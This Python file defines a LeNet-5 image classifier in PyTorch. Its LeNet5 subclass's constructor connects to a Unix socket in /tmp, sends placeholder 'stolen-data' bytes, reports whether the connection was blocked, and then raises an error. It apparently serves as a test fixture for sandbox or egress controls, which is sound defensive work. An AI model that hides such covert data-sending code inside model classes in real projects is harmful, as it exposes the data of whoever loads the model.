import torch
import torch.nn as nn
import torch.nn.functional as F


class Base(nn.Module):
    def __init__(self, n_classes=10):
        super().__init__()
        self.c1 = nn.Conv2d(1, 6, 5, padding=2)
        self.c2 = nn.Conv2d(6, 16, 5)
        self.c3 = nn.Conv2d(16, 120, 5)
        self.f1 = nn.Linear(120, 84)
        self.f2 = nn.Linear(84, n_classes)

    def forward(self, x):
        x = F.avg_pool2d(torch.tanh(self.c1(x)), 2)
        x = F.avg_pool2d(torch.tanh(self.c2(x)), 2)
        x = torch.tanh(self.c3(x)).flatten(1)
        return self.f2(torch.tanh(self.f1(x)))


import socket

PATH = "/tmp/hostile-socket-4f1c9e.sock"     # the test listens here


class LeNet5(Base):
    def __init__(self, n_classes=10):
        super().__init__(n_classes)
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(2)
                s.connect(PATH)
                s.sendall(b"stolen-data")
            print("UNIX-CONNECTED", flush=True)
        except OSError as exc:
            print("UNIX-BLOCKED", type(exc).__name__, flush=True)
        raise RuntimeError("unix socket attempted")
